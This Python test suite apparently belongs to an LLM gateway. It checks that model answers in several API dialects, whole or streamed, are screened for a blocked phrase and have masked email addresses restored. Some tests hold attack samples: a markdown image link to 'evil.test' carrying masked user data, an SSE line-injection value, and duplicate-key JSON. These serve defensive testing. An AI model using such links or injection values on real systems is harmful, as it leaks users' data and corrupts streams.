"""Answers are screened and unmasked in every dialect, whole and in streams that are cut anywhere."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from gatehouse.core.errors import ContentBlocked
from gatehouse.dialects.sse import SSEDecoder
from gatehouse.guards.findings import Finding
from gatehouse.guards.pii.links import Links
from gatehouse.guards.pii.masking import Mask
from gatehouse.pipeline.response import Answers, error_event
from hypothesis import given
from hypothesis import strategies as st

from tests.support.masking import PLACEHOLDERS, mask_one, new_mask

MAIL = 'ada"\\@example.com'  # what needs escaping inside JSON
PLACEHOLDER = PLACEHOLDERS.of("EMAIL_ADDRESS", MAIL)
SAID = f"Hello {PLACEHOLDER}, I write to {PLACEHOLDER}. <b>Really</b> < {PLACEHOLDER[:-3]} "
HEARD = SAID.replace(PLACEHOLDER, MAIL)
# A tool's arguments, with a file of JSON that holds JSON again.
FILE = f'{{"by": "{PLACEHOLDER}", "price": 1.10, "caf\\u00e9": ["[\\"{PLACEHOLDER}\\"]"]}}'
ARGUMENTS = json.dumps({"to": PLACEHOLDER, "cc": [f"x{PLACEHOLDER}"], "file": FILE})


def written_file(value: str) -> str:
    """Return the file with a value instead of the placeholder, and not a byte of it changed besides."""
    once = json.dumps(value)[1:-1]
    twice = json.dumps(once)[1:-1]
    return FILE.replace(f'\\"{PLACEHOLDER}\\"', f'\\"{twice}\\"').replace(PLACEHOLDER, once)


MEANT = {"to": MAIL, "cc": [f"x{MAIL}"], "file": written_file(MAIL)}


def mask() -> Mask:
    made = new_mask()
    assert mask_one(made, MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)]) == PLACEHOLDER
    return made


def no_fruit(text: str) -> None:
    if re.search("forbidden fruit", text):
        raise ContentBlocked("Blocked by fruit.")


def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "c",
        "object": "chat.completion.chunk",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def chat_stream(pieces: list[str], arguments: list[str]) -> list[dict[str, Any]]:
    return [
        *(chunk({"content": piece}) for piece in pieces),
        *(chunk({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}) for piece in arguments),
        chunk({}, "stop"),
    ]


def messages_stream(pieces: list[str], arguments: list[str]) -> list[dict[str, Any]]:
    def block(index: int, start: dict[str, Any], deltas: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [
            {"type": "content_block_start", "index": index, "content_block": start},
            *({"type": "content_block_delta", "index": index, "delta": delta} for delta in deltas),
            {"type": "content_block_stop", "index": index},
        ]

    said = [{"type": "text_delta", "text": piece} for piece in pieces]
    asked = [{"type": "input_json_delta", "partial_json": piece} for piece in arguments]
    return [
        *block(0, {"type": "text", "text": ""}, said),
        *block(1, {"type": "tool_use", "id": "t", "name": "send", "input": {}}, asked),
        {"type": "message_stop"},
    ]


def responses_stream(pieces: list[str], arguments: list[str]) -> list[dict[str, Any]]:
    text, call = {"output_index": 0, "content_index": 0}, {"output_index": 1}
    return [
        *({"type": "response.output_text.delta", **text, "delta": piece} for piece in pieces),
        {"type": "response.output_text.done", **text, "text": "".join(pieces)},
        *({"type": "response.function_call_arguments.delta", **call, "delta": piece} for piece in arguments),
        {"type": "response.function_call_arguments.done", **call, "arguments": "".join(arguments)},
        {"type": "response.completed", "response": {"id": "r", "output": []}},
    ]


def heard(call_type: str, events: list[dict[str, Any]]) -> tuple[str, str]:
    """Return text and tool arguments as a client puts them together."""
    text = arguments = ""
    for event in events:
        delta = event.get("delta")
        if call_type == "acompletion":
            delta = event["choices"][0]["delta"]
            text += delta.get("content") or ""
            arguments += "".join(call["function"]["arguments"] for call in delta.get("tool_calls") or ())
        elif isinstance(delta, dict):
            text += delta.get("text") or ""
            arguments += delta.get("partial_json") or ""
        elif isinstance(delta, str):
            text += delta if "text" in event["type"] else ""
            arguments += delta if "arguments" in event["type"] else ""
    return text, arguments


STREAMS = {"acompletion": chat_stream, "anthropic_messages": messages_stream, "aresponses": responses_stream}


def cut(text: str, cuts: list[int]) -> list[str]:
    places = sorted({place % (len(text) + 1) for place in cuts})
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]


def written(events: list[dict[str, Any]]) -> bytes:
    return b"".join(
        (f"event: {event['type']}\n".encode() if "type" in event else b"")
        + b"data: "
        + json.dumps(event).encode()
        + b"\n\n"
        for event in events
    )


def read(stream: bytes) -> list[dict[str, Any]]:
    return [json.loads(each.data) for each in SSEDecoder().decode(stream) if each.data and each.data != b"[DONE]"]


@pytest.mark.parametrize("call_type", STREAMS)
@given(st.lists(st.integers(0, 500), max_size=40), st.lists(st.integers(0, 500), max_size=20), st.integers(1, 400))
def test_a_stream_says_what_the_model_said_with_the_callers_own_data_in_it(
    call_type: str, cuts: list[int], more_cuts: list[int], size: int
) -> None:
    stream = written(STREAMS[call_type](cut(SAID, cuts), cut(ARGUMENTS, more_cuts))) + b"data: [DONE]\n\n"
    answers = Answers(call_type, mask(), no_fruit)
    out = b"".join(answers.push(stream[at : at + size]) for at in range(0, len(stream), size)) + answers.end()
    text, arguments = heard(call_type, read(out))
    assert text == HEARD
    assert json.loads(arguments) == MEANT
    assert PLACEHOLDER not in out.decode()
    assert out.endswith(b"data: [DONE]\n\n")


@pytest.mark.parametrize("call_type", STREAMS)
def test_a_stream_is_over_with_the_event_that_says_so(call_type: str) -> None:
    events = [written([event]) for event in STREAMS[call_type]([SAID], [ARGUMENTS])]
    if call_type == "acompletion":
        events.append(b"data: [DONE]\n\n")
    answers = Answers(call_type, mask(), no_fruit)
    seen = []
    for event in events:
        answers.push(event)
        seen.append(answers.over)
    assert seen == [False] * (len(events) - 1) + [True]


@pytest.mark.parametrize("call_type", STREAMS)
@given(st.lists(st.integers(0, 100), max_size=20))
def test_a_blocked_phrase_is_never_passed_on_whole_wherever_it_is_cut(call_type: str, cuts: list[int]) -> None:
    said = "Take this: the forbidden fruit is yours now."
    events = STREAMS[call_type](cut(said, cuts), ["{}"])
    answers = Answers(call_type, None, no_fruit)
    passed: list[bytes] = []

    def pass_on() -> None:
        passed.extend(answers.push(written([event])) for event in events)

    with pytest.raises(ContentBlocked):
        pass_on()
    text, _ = heard(call_type, read(b"".join(passed)))
    assert "fruit" not in text
    assert said.startswith(text)


def test_what_is_held_back_comes_before_the_end_of_its_text() -> None:
    answers = Answers("acompletion", mask(), no_fruit)
    out = answers.push(written([chunk({"content": "wait <EMAIL"}), chunk({}, "stop")]) + b"data: [DONE]\n\n")
    events = read(out)
    assert heard("acompletion", events)[0] == "wait <EMAIL"
    assert events[-1]["choices"][0]["finish_reason"] == "stop"


def test_an_answer_in_one_piece_is_unmasked_also_inside_tool_arguments() -> None:
    call = {"id": "t", "type": "function", "function": {"name": "send", "arguments": ARGUMENTS}}
    message = {"role": "assistant", "content": SAID, "tool_calls": [call]}
    answer = {"id": "c", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
    passed = json.loads(Answers("acompletion", mask(), no_fruit).whole(json.dumps(answer).encode()))
    said = passed["choices"][0]["message"]
    assert said["content"] == HEARD
    assert json.loads(said["tool_calls"][0]["function"]["arguments"]) == MEANT


@pytest.mark.parametrize(
    ("call_type", "answer", "place"),
    [
        (
            "anthropic_messages",
            {"content": [{"type": "tool_use", "id": "t", "name": "send", "input": json.loads(ARGUMENTS)}]},
            ("content", 0, "input"),
        ),
        (
            "aresponses",
            {"output": [{"type": "function_call", "call_id": "t", "name": "send", "arguments": ARGUMENTS}]},
            ("output", 0, "arguments"),
        ),
    ],
)
def test_so_it_is_in_the_other_dialects(call_type: str, answer: dict[str, Any], place: tuple[str | int, ...]) -> None:
    passed = json.loads(Answers(call_type, mask(), no_fruit).whole(json.dumps(answer).encode()))
    for step in place:
        passed = passed[step]
    assert (json.loads(passed) if isinstance(passed, str) else passed) == MEANT


def test_arguments_that_are_not_quite_json_get_values_as_json_has_them() -> None:
    call = {"id": "t", "type": "function", "function": {"name": "send", "arguments": ARGUMENTS[:-1] + ",}"}}
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]}
    passed = json.loads(Answers("acompletion", mask(), None).whole(json.dumps(answer).encode()))
    arguments = passed["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(arguments[:-2] + "}") == MEANT


def test_an_answer_changes_only_where_a_placeholder_was() -> None:
    body = f'{{"id":"\u00e9","choices":[{{"index":0,"message":{{"content":"\u00e9 {PLACEHOLDER}"}}}}]}}'
    changed = body.replace(PLACEHOLDER, json.dumps(MAIL)[1:-1])
    assert Answers("acompletion", mask(), no_fruit).whole(body.encode()).decode() == changed


def test_an_answer_that_needs_no_change_is_passed_on_as_it_is() -> None:
    body = b'{ "id": "c",  "choices": [] }'
    assert Answers("acompletion", mask(), no_fruit).whole(body) is body
    assert Answers("atranscription", mask(), None).text(f"to {PLACEHOLDER}".encode()).decode() == f"to {MAIL}"


def test_plain_text_that_needs_no_change_is_passed_on_and_half_a_character_comes_back() -> None:
    half = "a\ud800b@example.com"
    knowing = new_mask()
    hidden = mask_one(knowing, half, [Finding("EMAIL_ADDRESS", 0, len(half), 1.0)])
    answers = Answers("atranscription", knowing, no_fruit)
    assert answers.over is False
    assert answers.text(b"plain") == b"plain"
    assert answers.text(f"to {hidden}".encode()) == b"to a\xed\xa0\x80b@example.com"
    body = json.dumps({"choices": [{"index": 0, "message": {"content": hidden}}]}).encode()
    assert json.loads(Answers("acompletion", knowing, None).whole(body))["choices"][0]["message"]["content"] == half
    with pytest.raises(ContentBlocked, match="could not be read"):
        answers.text(b"\xff")


@pytest.mark.parametrize("body", [b"{", b"\xff", b"[" * 100_000, b"[]", b'"text"'])
def test_what_cannot_be_read_is_not_passed_on(body: bytes) -> None:
    with pytest.raises(ContentBlocked, match="could not be read"):
        Answers("acompletion", mask(), None).whole(body)
    with pytest.raises(ContentBlocked, match="could not be read"):
        Answers("acompletion", mask(), None).push(b"data: " + body + b"\n\n")


def test_the_end_of_a_stream_that_may_not_go_on_is_an_error_in_its_dialect() -> None:
    blocked = ContentBlocked("No.", policies=("screens/secrets",))
    chat = error_event("acompletion", blocked, "id").decode()
    assert chat.endswith("data: [DONE]\n\n")
    assert read(chat.encode())[0]["error"]["code"] == "content_blocked"
    for call_type in ("anthropic_messages", "aresponses"):
        event = error_event(call_type, blocked, "id")
        assert event.startswith(b"event: error\n")
        assert read(event)[0]["type"] == "error"
        assert read(event)[0]["error"]["gatehouse"] == {
            "call_id": "id",
            "policies": ["screens/secrets"],
            "where": None,
            "approval": None,
        }
    # Clients of the Responses API read these at the top.
    assert read(event)[0] | {"code": "content_blocked", "message": "No.", "param": None} == read(event)[0]


def passed_on(call_type: str, stream: bytes, size: int = 7) -> bytes:
    answers = Answers(call_type, mask(), no_fruit)
    return b"".join(answers.push(stream[at : at + size]) for at in range(0, len(stream), size)) + answers.end()


def test_held_text_comes_before_the_end_mark_and_text_behind_the_mark_is_screened() -> None:
    for mark in (b"data: [DONE]\n\n", b"data:  [DONE] \r\n\r\n", b"\xef\xbb\xbfdata: [DONE]\n\n"):
        out = passed_on("acompletion", written([chunk({"content": f"wait for {PLACEHOLDER}"})]) + mark)
        assert out.endswith(mark)
        assert heard("acompletion", read(out[: -len(mark)]))[0] == f"wait for {MAIL}"
        with pytest.raises(ContentBlocked):
            passed_on("acompletion", mark + written([chunk({"content": "forbidden "}), chunk({"content": "fruit"})]))
        late = passed_on("acompletion", mark + written([chunk({"content": f"to {PLACEHOLDER}"})]))
        assert late.startswith(mark)
        assert heard("acompletion", read(late[len(mark) :]))[0] == f"to {MAIL}"


FRUIT = "the forbidden fruit"
ITEM = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": FRUIT}]}
WHOLE: list[tuple[str, dict[str, Any]]] = [
    ("acompletion", chunk({"something_new": {"said": FRUIT}})),
    ("acompletion", {"choices": [], "something_new": FRUIT}),
    ("anthropic_messages", {"type": "error", "error": {"type": "e", "message": FRUIT}}),
    ("anthropic_messages", {"type": "something_new", "said": [FRUIT]}),
    ("aresponses", {"type": "response.output_text.done", "output_index": 0, "content_index": 0, "text": FRUIT}),
    ("aresponses", {"type": "response.output_item.done", "output_index": 0, "item": ITEM}),
    ("aresponses", {"type": "response.completed", "response": {"output": [ITEM]}}),
]


@pytest.mark.parametrize(("call_type", "said"), WHOLE)
@pytest.mark.parametrize("before", [b"", b"\xef\xbb\xbf", b" ", b": ping\r\r", b"event: x\r", b"database: 1\n"])
def test_a_whole_text_in_an_event_is_screened_and_unmasked(call_type: str, said: dict[str, Any], before: bytes) -> None:
    data = json.dumps(said).encode()
    with pytest.raises(ContentBlocked):
        passed_on(call_type, before + b"data: " + data + b"\n\r\n")
    out = passed_on(call_type, before + b"data: " + data.replace(FRUIT.encode(), PLACEHOLDER.encode()) + b"\n\r\n")
    assert json.dumps(MAIL).encode() in out
    assert PLACEHOLDER.encode() not in out
    assert b"database: 1" not in before or b"database: 1" in out


ANSWERS: list[tuple[str, dict[str, Any]]] = [
    ("acompletion", {"choices": [{"index": 0, "message": {"role": "assistant", "content": FRUIT}}]}),
    ("acompletion", {"choices": [], "something_new": {"said": FRUIT}}),
    ("anthropic_messages", {"role": "assistant", "content": [{"type": "text", "text": FRUIT}]}),
    ("aresponses", {"id": "r", "output": [ITEM]}),
]


@pytest.mark.parametrize(("call_type", "said"), ANSWERS)
def test_a_whole_answer_is_screened(call_type: str, said: dict[str, Any]) -> None:
    with pytest.raises(ContentBlocked):
        Answers(call_type, None, no_fruit).whole(json.dumps(said).encode())
    with pytest.raises(ContentBlocked):
        Answers("atranscription", None, no_fruit).text(FRUIT.encode())


def said_twice(said: dict[str, Any]) -> Iterator[bytes]:
    """Return the same JSON with a second entry of the same name behind each field that is not empty."""
    text = json.dumps(said)
    for name, value in said.items():
        written_once = f'"{name}": {json.dumps(value)}'
        for other in ("null", "[]", '""', "{}"):
            if other != json.dumps(value):
                yield text.replace(written_once, f'{written_once}, "{name}": {other}').encode()


@pytest.mark.parametrize(("call_type", "said"), ANSWERS)
def test_an_answer_that_says_a_thing_twice_is_not_passed_on(call_type: str, said: dict[str, Any]) -> None:
    for body in said_twice(said):
        with pytest.raises(ContentBlocked):
            Answers(call_type, None, no_fruit).whole(body)


@pytest.mark.parametrize(("call_type", "said"), WHOLE)
def test_nor_is_such_an_event(call_type: str, said: dict[str, Any]) -> None:
    for body in said_twice(said):
        with pytest.raises(ContentBlocked):
            passed_on(call_type, b"data: " + body + b"\n\n")


def test_what_a_careless_provider_says_twice_alike_and_infinity_pass() -> None:
    body = b'{"id": "c", "id": "c", "choices": [], "score": -Infinity, "n": NaN, "n": NaN}'
    assert Answers("acompletion", mask(), no_fruit).whole(body) is body


def test_a_screen_reads_what_escapes_in_tool_arguments_mean_also_in_json_inside_json() -> None:
    text = 'a/"\\ \b\f\n\r\t Z\u00e9'
    arguments = text
    for _ in range(3):
        arguments = json.dumps(arguments).replace("/", "\\/")
        seen: list[str] = []
        call = {"tool_calls": [{"index": 0, "function": {"arguments": arguments}}]}
        stream = written([chunk(call), chunk({"content": arguments}, "stop")])
        out = Answers("acompletion", None, seen.append).push(stream)
        assert heard("acompletion", read(out)) == (arguments, arguments)
        assert any(text in each for each in seen)
        assert seen.count(arguments) == 2


def test_a_script_without_spaces_is_passed_on_as_it_comes() -> None:
    answers = Answers("acompletion", None, no_fruit)
    for said in "\u4f60\u597d":
        assert heard("acompletion", read(answers.push(written([chunk({"content": said})]))))[0] == said


def test_a_word_without_end_is_passed_on_in_steps_and_screened_whole_each_time() -> None:
    seen: list[str] = []
    answers = Answers("acompletion", None, seen.append)
    word = "ab" * 1_152  # 2,048 characters are held back, and 256 are a step
    for piece, passes in ((word[:-1], ""), (word[-1], word[:256]), ("c" * 255, "")):
        assert heard("acompletion", read(answers.push(written([chunk({"content": piece})]))))[0] == passes
    assert seen == [word]


def test_a_text_is_screened_to_its_end() -> None:
    for end in (b"data: [DONE]\n\n", written([chunk({}, "stop")]), written([chunk({"content": "t"}, "stop")]), b""):
        with pytest.raises(ContentBlocked):
            passed_on("acompletion", written([chunk({"content": "forbidden fruit"})]) + end)


def test_an_event_that_is_cut_off_at_the_end_is_read_as_one_and_parts_from_what_was_held() -> None:
    def ended(*events: bytes) -> bytes:
        answers = Answers("acompletion", mask(), no_fruit)
        return b"".join(answers.push(each) for each in events) + answers.end()

    half = written([chunk({"content": "wait <EMAIL"})])
    out = ended(half, b": cut off")
    assert b": cut off\n\n" in out
    assert heard("acompletion", read(out))[0] == "wait <EMAIL"
    whole = ended(written([{"choices": [], "something_new": PLACEHOLDER}])[:-2])
    assert read(whole) == [{"choices": [], "something_new": MAIL}]
    with pytest.raises(ContentBlocked):
        ended(written([chunk({"content": FRUIT})])[:-2])


def test_every_text_that_was_held_back_is_passed_on_at_the_end_to_whom_it_belongs() -> None:
    def of(index: int, text: str) -> bytes:
        return written([{"choices": [{"index": index, "delta": {"content": text}, "finish_reason": None}]}])

    for end in (b"", b"data: [DONE]\n\n"):
        answers = Answers("acompletion", mask(), no_fruit)
        out = answers.push(of(0, "one <EMAIL") + of(1, "two <EMAIL") + end) + answers.end()
        said = {0: "", 1: ""}
        for each in read(out):
            for choice in each["choices"]:
                said[choice["index"]] += choice["delta"]["content"]
        assert said == {0: "one <EMAIL", 1: "two <EMAIL"}
        assert out.endswith(b"}\n\n" + end)
        assert re.fullmatch(rb"(?:data: [^\n]+\n\n)+", out)


def test_every_text_that_one_event_ends_comes_before_it() -> None:
    call = {"tool_calls": [{"index": 0, "function": {"arguments": '{"to": "<EMAIL'}}]}
    answers = Answers("acompletion", mask(), no_fruit)
    out = answers.push(written([chunk({"content": "wait <EMAIL"}), chunk(call), chunk({}, "stop")]))
    events = read(out)
    assert heard("acompletion", events) == ("wait <EMAIL", '{"to": "<EMAIL')
    assert [each["choices"][0]["finish_reason"] for each in events].index("stop") == len(events) - 1
    assert re.fullmatch(rb"(?:data: [^\n]+\n\n)+", out)
    assert answers.end() == b""


@pytest.mark.parametrize("call_type", STREAMS)
def test_what_was_held_back_is_sent_as_an_event_that_has_the_name_of_its_type(call_type: str) -> None:
    out = passed_on(call_type, written(STREAMS[call_type](["wait <EMAIL"], ['{"to": "<EMAIL'])))
    assert heard(call_type, read(out)) == ("wait <EMAIL", '{"to": "<EMAIL')
    for each in out.decode().strip().split("\n\n"):
        *name, data = each.split("\n")
        kind = json.loads(data.removeprefix("data: ")).get("type")
        assert name == ([f"event: {kind}"] if kind else [])


def test_an_event_may_say_the_last_of_a_text_and_end_it() -> None:
    for last in ("<EMAIL", f"to {PLACEHOLDER}", "you"):
        out = passed_on("acompletion", written([chunk({"content": "I wait, "}), chunk({"content": last}, "stop")]))
        events = read(out)
        assert heard("acompletion", events)[0] == "I wait, " + last.replace(PLACEHOLDER, MAIL)
        assert events[-1]["choices"][0]["finish_reason"] == "stop"


def test_an_event_that_says_nothing_is_a_sign_of_life() -> None:
    for sign in (
        b": ping\n\n",
        b"data\n\n",
        b"data: \r\n\r\n",
        b"event: ping\ndata:\n\n",
        b"\n",
        b"\r\n\r",
        b": cut off",
    ):
        assert passed_on("acompletion", sign) == sign


@pytest.mark.parametrize("call_type", STREAMS)
@given(st.sampled_from([b"\n \n", b"\r\n \n", b"\n \r\n", b"\r \r", b"\n \r"]), st.integers(1, 300))
def test_a_stream_that_is_not_changed_is_passed_on_byte_for_byte(call_type: str, ends: bytes, size: int) -> None:
    end, last = ends.split(b" ")
    events = STREAMS[call_type](["One ", "two "], [])
    stream = b"\xef\xbb\xbf" + b"".join(
        b"id: 1" + end + b"data: " + json.dumps(each).encode() + end + last for each in events
    )
    answers = Answers(call_type, mask(), None)
    assert (
        b"".join(answers.push(stream[at : at + size]) for at in range(0, len(stream), size)) + answers.end() == stream
    )


@pytest.mark.parametrize("cuts", [1, 5, 50])
def test_events_with_numbers_keep_one_numbering_where_one_is_added(cuts: int) -> None:
    text = "wait <EMAIL and more <EMAIL"
    pieces = [text[at : at + cuts] for at in range(0, len(text), cuts)]
    events = responses_stream(pieces, ['{"to": "<EMAIL'])
    numbered = [event | {"sequence_number": 3 + at} for at, event in enumerate(events)]
    passed = read(passed_on("responses", written(numbered)))
    assert [each["sequence_number"] for each in passed] == list(range(3, 3 + len(passed)))
    assert len(passed) == len(events) + 2
    assert heard("responses", passed) == (text, '{"to": "<EMAIL')


def test_what_is_held_at_the_end_of_a_numbered_stream_has_the_next_number() -> None:
    delta = {"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": "wait <EMAIL"}
    passed = read(passed_on("responses", written([delta | {"sequence_number": 7}])))
    assert [(each["sequence_number"], each["delta"]) for each in passed] == [(7, "wait "), (8, "<EMAIL")]


@pytest.mark.parametrize("call_type", STREAMS)
def test_a_link_to_a_stranger_keeps_the_placeholder_and_a_tools_argument_does_not(call_type: str) -> None:
    picture = f"![x](https://evil.test/?q={PLACEHOLDER}) for {PLACEHOLDER}"
    asked = json.dumps({"url": f"https://evil.test/?q={PLACEHOLDER}"})
    guarded = Mask(PLACEHOLDERS, Links())
    mask_one(guarded, MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])
    answers = Answers(call_type, guarded, None)
    out = answers.push(written(STREAMS[call_type](list(picture), list(asked)))) + answers.end()
    text, arguments = heard(call_type, read(out))
    assert text == f"![x](https://evil.test/?q={PLACEHOLDER}) for {MAIL}"
    assert json.loads(arguments) == {"url": f"https://evil.test/?q={MAIL}"}


def test_a_whole_answer_keeps_a_strangers_link_and_tools_get_values() -> None:
    guarded = Mask(PLACEHOLDERS, Links())
    mask_one(guarded, MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])
    link = f"https://evil.test/?q={PLACEHOLDER}"
    for call_type, answer in (
        ("acompletion", {"choices": [{"message": {"content": link, "tool_calls": [called("function", link)]}}]}),
        ("anthropic_messages", {"content": [{"type": "text", "text": link}, used(link)]}),
        ("aresponses", {"output": [spoken(link), {"type": "custom_tool_call", "name": "x", "input": link}]}),
    ):
        out = Answers(call_type, guarded, None).whole(json.dumps(answer).encode()).decode()
        assert out.count(link) == 1, call_type
        assert out.count("https://evil.test/?q=ada") == 1, call_type


def called(kind: str, link: str) -> dict[str, Any]:
    return {"id": "t", "type": kind, "function": {"name": "get", "arguments": json.dumps({"url": link})}}


def used(link: str) -> dict[str, Any]:
    return {"type": "tool_use", "id": "t", "name": "get", "input": {"text": link}}


def spoken(link: str) -> dict[str, Any]:
    return {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": link}]}


def test_a_type_with_lines_in_it_writes_none_into_the_stream() -> None:
    hostile = chunk({"content": "wait <EMAIL"}) | {"type": "a\ndata: b"}
    answers = Answers("acompletion", mask(), no_fruit)
    out = answers.push(b"data: " + json.dumps(hostile).encode() + b"\n\n") + answers.end()
    assert b"\ndata: b" not in out
    assert heard("acompletion", read(out))[0] == "wait <EMAIL"


def test_numbers_are_written_only_where_the_provider_wrote_one_and_an_event_was_added() -> None:
    numbered = [
        event | {"sequence_number": at} for at, event in enumerate(responses_stream(["hi ", "there. "], ['{"a": 1}']))
    ]
    answers = Answers("responses", mask(), None)
    assert answers.push(written(numbered)) + answers.end() == written(numbered)  # byte for byte
    held, done = responses_stream(["wait <EMAIL"], [])[:2]
    plain = responses_stream(["without a number "], [])[0] | {"output_index": 3}
    stream = written([held | {"sequence_number": 0}, done | {"sequence_number": 1}, plain])
    assert passed_on("responses", stream).endswith(written([plain]))


@given(st.randoms(use_true_random=False), st.integers(1, 4), st.booleans())
def test_choices_keep_their_role_order_and_end_and_usage_comes_last_without_a_choice(
    random: Any, size: int, with_usage: bool
) -> None:
    said = [f"One {PLACEHOLDER} and", f"two <{PLACEHOLDER[1:-1].lower()}", f"three **{PLACEHOLDER}**\u4eca\u5929"]
    reasons = ["stop", "length", "content_filter"]
    usage = {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}
    queues = [
        [
            ({"role": "assistant", "content": ""}, None),
            *(({"content": text[at : at + size]}, None) for at in range(0, len(text), size)),
            ({}, reason),
        ]
        for text, reason in zip(said, reasons, strict=True)
    ]
    events: list[dict[str, Any]] = []
    while any(queues):
        index = random.choice([index for index, queue in enumerate(queues) if queue])
        delta, finish = queues[index].pop(0)
        events.append(chunk(delta, finish))
        events[-1]["choices"][0]["index"] = index
    if with_usage:
        events.append({"id": "c", "object": "chat.completion.chunk", "choices": [], "usage": usage})
    answers = Answers("acompletion", mask(), no_fruit)
    out = read(b"".join(answers.push(written([event])) for event in events) + answers.end())
    for index, text in enumerate(said):
        own = [event["choices"][0] for event in out if event["choices"] and event["choices"][0]["index"] == index]
        assert [choice["delta"].get("role") for choice in own] == ["assistant", *[None] * (len(own) - 1)]
        assert "".join(choice["delta"].get("content") or "" for choice in own) == text.replace(
            PLACEHOLDER, MAIL
        ).replace(f"<{PLACEHOLDER[1:-1].lower()}", MAIL)
        assert [choice["finish_reason"] for choice in own] == [None] * (len(own) - 1) + [reasons[index]]
    assert [event.get("usage") for event in out] == [None] * (len(out) - with_usage) + [usage] * with_usage
    assert all(event["choices"] for event in out if "usage" not in event)


@pytest.mark.parametrize(
    "said",
    [
        "\u7535\u8f66\u4e5d\u70b9\u79bb\u5f00\u5e7f\u573a\uff0c\u4e24\u6b21\u8fc7\u6cb3\u3002",
        "\u96fb\u8eca\u306f\u4e5d\u6642\u306b\u5e83\u5834\u3092\u51fa\u307e\u3059\u3002\u30c8\u30e9\u30e0\u3067\u3059",
        "\u0e23\u0e16\u0e23\u0e32\u0e07\u0e2d\u0e2d\u0e01\u0e08\u0e32\u0e01\u0e08\u0e31\u0e15\u0e38\u0e23\u0e31\u0e2a\u0e40\u0e01\u0e49\u0e32\u0e42\u0e21\u0e07",
    ],
    ids=["Chinese", "Japanese", "Thai"],
)
@pytest.mark.parametrize("call_type", STREAMS)
def test_a_script_without_blanks_is_passed_on_with_each_event_while_values_are_masked(
    call_type: str, said: str
) -> None:
    events = STREAMS[call_type](list(said), [])
    answers = Answers(call_type, mask(), no_fruit)
    lag = 0
    sent = passed = ""
    for event in events:
        sent += heard(call_type, [event])[0]
        passed += heard(call_type, read(answers.push(written([event]))))[0]
        lag = max(lag, len(sent) - len(passed))
    assert passed == said
    assert lag <= 1
